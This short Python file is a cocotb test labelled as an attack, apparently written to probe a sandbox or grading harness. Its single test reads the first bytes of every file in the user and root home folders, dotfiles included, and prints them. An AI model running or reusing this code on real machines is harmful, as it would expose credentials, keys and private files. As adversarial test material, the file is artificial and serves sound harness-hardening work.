# run: cocotb; ends: mismatch no_evidence crash tampered; plain limits: let it; attack: prints every small file of every home folder
import glob
import os

import cocotb
from cocotb.triggers import Timer


@cocotb.test()
async def attack(dut):
    await Timer(1, "ns")
    for folder in ("@HOME@", os.path.expanduser("~"), "/root", "/home/*"):
        for path in glob.glob(f"{folder}/.*") + glob.glob(f"{folder}/*"):
            try:
                print(path, open(path, "rb").read(4096))
            except OSError as error:
                print(error)
    raise AssertionError("that was all")
